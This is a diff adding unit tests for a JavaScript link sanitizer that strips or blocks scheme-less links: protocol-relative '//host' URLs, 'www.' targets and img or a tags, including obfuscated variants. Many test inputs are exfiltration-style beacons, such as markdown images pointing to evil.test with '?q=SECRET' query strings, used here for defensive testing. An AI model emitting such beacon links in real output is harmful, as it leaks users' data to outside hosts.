@@ -108,11 +108,90 @@ describe('links: what is removed', () => {
   });
 });
 
+// Links without a scheme (issue 14): protocol-relative `//host`, `www.` targets and bare `www.`
+// URLs are judged by host like scheme-ful ones; relative links and prose stay.
+const EVIL_NO_SCHEME = [
+  'a ![x](//evil.test/?q=SECRET) b', '[click](//evil.test/x)', '![x](///evil.test/a)', '![x](\\\\\\\\evil.test/a)', '![x](/\\evil.test/a)',
+  '![x](www.evil.test/?q=SECRET)', '[a](www.evil.test)', '[a](WWW.Evil.Test/x "t")', '[a](<www.evil.test/a b>)', '[a](&#119;ww.evil.test)', '[a](www\\.evil.test)',
+  '[id]: //evil.test/x', '[id]: www.evil.test/x',
+  '<img src="//evil.test/p.png">', '<img src=//evil.test/p.png>', "<IMG ALT='x' SRC='//evil.test/p'>", '<img alt="a" width=1\nsrc="https://evil.test/?q=SECRET">',
+  '<img src="www.evil.test/p">', '<a title=t href=www.evil.test>x</a>', '<img srcset="//example.com/a.png 1x, //evil.test/b.png 2x">',
+  'visit www.evil.test/?q=SECRET now', '(www.evil.test)', 'WWW.EVIL.TEST.', '{"u":"www.evil.test/?q=1"}', '_www.evil.test/a_',
+];
+
+describe('links: without a scheme', () => {
+  it('protocol-relative and www. targets of markdown images, links and definitions are judged by host', () => {
+    assert.equal(out('a ![x](//evil.test/?q=SECRET) b'), 'a  b');
+    assert.equal(out('[click](//evil.test/x)'), 'click');
+    assert.equal(out('![x](///evil.test/a)'), '');
+    assert.equal(out('![x](\\\\\\\\evil.test/a)'), ''); // markdown `\\\\evil.test` is `\\evil.test` unescaped: the browser reads //evil.test
+    assert.equal(out('![x](/\\evil.test/a)'), '');
+    assert.equal(out('![x](www.evil.test/?q=SECRET)'), '');
+    assert.equal(out('[a](www.evil.test)'), 'a');
+    assert.equal(out('[a](WWW.Evil.Test/x "t")'), 'a');
+    assert.equal(out('[a](<www.evil.test/a b>)'), 'a');
+    assert.equal(out('[a](&#119;ww.evil.test)'), 'a');
+    assert.equal(out('[a](www\\.evil.test)'), 'a');
+    assert.equal(out('[id]: //evil.test/x\n[id]: www.evil.test/x'), '\n');
+    assert.equal(out('![x](//cdn.example.com/a.png) [a](www.example.com/x) [id]: //example.com'), '![x](//cdn.example.com/a.png) [a](www.example.com/x) [id]: //example.com');
+  });
+
+  it('HTML tags: protocol-relative and www. values, any quotes, upper case, attributes before src', () => {
+    assert.equal(out('<img src="//evil.test/p.png">'), '');
+    assert.equal(out('<img src=//evil.test/p.png>'), '');
+    assert.equal(out("<IMG ALT='x' SRC='//evil.test/p'>"), '');
+    assert.equal(out('<img alt="a" width=1\nsrc="https://evil.test/?q=SECRET">'), '');
+    assert.equal(out('<img src="www.evil.test/p">'), '');
+    assert.equal(out('<a title=t href=www.evil.test>x</a>'), 'x</a>');
+    assert.equal(out('<img srcset="//example.com/a.png 1x, //evil.test/b.png 2x">'), '');
+    assert.equal(out('<img src="//cdn.example.com/a.png"> <a href=www.example.com>x</a>'), '<img src="//cdn.example.com/a.png"> <a href=www.example.com>x</a>');
+  });
+
+  it('bare www. URLs (GFM autolinks) keep their www and lose the rest', () => {
+    assert.equal(out('visit www.evil.test/?q=SECRET now'), 'visit www.[link removed] now');
+    assert.equal(out('(www.evil.test)'), '(www.[link removed])');
+    assert.equal(out('WWW.EVIL.TEST.'), 'WWW.[link removed].');
+    assert.equal(out('{"u":"www.evil.test/?q=1"}'), '{"u":"www.[link removed]"}');
+    assert.equal(out('_www.evil.test/a_'), '_www.[link removed]_');
+    assert.equal(out('see www.example.com/docs, or docs.www.example.com'), 'see www.example.com/docs, or docs.www.example.com');
+  });
+
+  it('relative links, prose and version strings stay', () => {
+    const t = '[docs](/path) [a](#anchor) [b](./x) [c](../up) [z](page.html) [v1.2.3](1.2.3) [w](www) [x](wwwx.evil.test) [y](evil.test/x) '
+      + 'see www dot example dot com, the www. prefix, www.. and www., awww.evil.test, wwww.evil.test, v1.2.3, node 20.11.1, e.g. foo.bar, 3.14. //evil.test as text. '
+      + 'Mail jane@www.evil.test, edit /etc/nginx/sites-available/www.evil.test.conf or C:\\srv\\www.evil.test, x-www.evil.test, sub.www.evil.test. Done.';
+    assert.equal(out(t), t);
+  });
+
+  it('counted by type; block withholds', () => {
+    const r = run('www.evil.test ![a](//evil.test/1) [b](www.evil.test) <img src=//evil.test/2>');
+    assert.deepEqual(Object.fromEntries(r.counts), { url: 1, image: 2, link: 1 });
+    const block = new LinkPolicy(rules({ action: 'block' }));
+    for (const t of EVIL_NO_SCHEME) assert.equal(out(t, block), null, t);
+    assert.equal(out('www.example.com ![a](//example.com/1) v1.2. www dot', block), 'www.example.com ![a](//example.com/1) v1.2. www dot');
+  });
+
+  it('split at every position into two chunks: the same output as the whole text, strip and block', () => {
+    const block = new LinkPolicy(rules({ action: 'block' }));
+    for (const t of [...EVIL_NO_SCHEME, 'x www.evil.test/?q=1 y www.example.com z', 'ok ww w. www .www (www.evil.test']) {
+      const whole = out(t);
+      assert.ok(whole !== null && !whole.includes('evil'), t);
+      for (let k = 0; k <= t.length; k++) {
+        assert.equal(streamed([t.slice(0, k), t.slice(k)]), whole, `${t} split at ${k}`);
+        assert.equal(streamed([t.slice(0, k), t.slice(k)], block), out(t, block), `${t} split at ${k} (block)`);
+      }
+    }
+  });
+});
+
 // Text made of pieces that start, end, nest and break constructs.
 const piece = fc.constantFrom(
   '![x](https://evil.test/?q=1)', '![ok](https://cdn.example.com/i.png)', '[t](https://evil.test/a "ti")', '[t](https://example.com/a)',
   '<img src="https://evil.test/p.png">', '<a href=https://example.com>', '<https://evil.test>', 'https://evil.test/x', 'http://example.com/y.',
   '[id]: https://evil.test', '[', ']', '(', ')', '!', '<', '>', 'h', 'ht', 'https', '://', ' ', '\n', '\n\n', '"', "'", '=', '\\', 'word', 'é', '&#58;', 'src=', '<img ', 'x',
+  // Without a scheme: protocol-relative, www. targets and bare www. URLs, img tags, and their pieces.
+  '![x](//evil.test/?q=1)', '[t](www.evil.test/a)', '[t](//example.com/a)', 'www.evil.test/p', 'www.example.com', 'WWW.Evil.test',
+  '<IMG alt=1 SRC=//evil.test/p>', "<img src='www.evil.test'>", '<img src="//cdn.example.com/i.png">', 'www', 'w', 'W', '.', '//', 'www.', '1.2.3',
 );
 const text = fc.array(piece, { maxLength: 24 }).map((a) => a.join(''));
 /** A text and cut points: the chunks of one split. */
@@ -131,7 +210,8 @@ describe('links: streaming', () => {
   });
 
   it('one character at a time gives the same output, for texts with long constructs too', () => {
-    const t = `Here ![img](https://evil.test/${'q'.repeat(300)}) and [a [nested] link](https://example.com/x) https://evil.test <img\nsrc='https://evil.test/y'>!`;
+    const t = `Here ![img](https://evil.test/${'q'.repeat(300)}) and [a [nested] link](https://example.com/x) https://evil.test <img\nsrc='https://evil.test/y'>! `
+      + `![x](//evil.test/${'q'.repeat(300)}) www.evil.test/${'p'.repeat(300)}. [y](www.evil.test) <IMG SRC=//evil.test/z>`;
     assert.equal(streamed([...t]), out(t));
   });
 
@@ -144,6 +224,22 @@ describe('links: streaming', () => {
     assert.equal(s.push('il.test/q) done'), ' done');
     assert.equal(s.held, 0);
     assert.equal(s.push('Hello'), 'Hello'); // 'H' after a space is undecided only while it could start http
+    assert.equal(s.end(), '');
+  });
+
+  it('www. and dots: nothing held until a word-initial www. is complete', () => {
+    const s = new LinkStream(strip);
+    assert.equal(s.push('Version 1.2.3. See w'), 'Version 1.2.3. See w');
+    assert.equal(s.held, 0);
+    assert.equal(s.push('ww'), 'ww');
+    assert.equal(s.held, 0);
+    assert.equal(s.push('.'), '');
+    assert.equal(s.held, 1);
+    assert.equal(s.push('evil.te'), '');
+    assert.equal(s.push('st/?q=1 ok, www dot com.'), '.[link removed] ok, www dot com.');
+    assert.equal(s.held, 0);
+    assert.equal(s.push('the www'), 'the www');
+    assert.equal(s.push('. prefix'), '. prefix');
     assert.equal(s.end(), '');
   });
 });
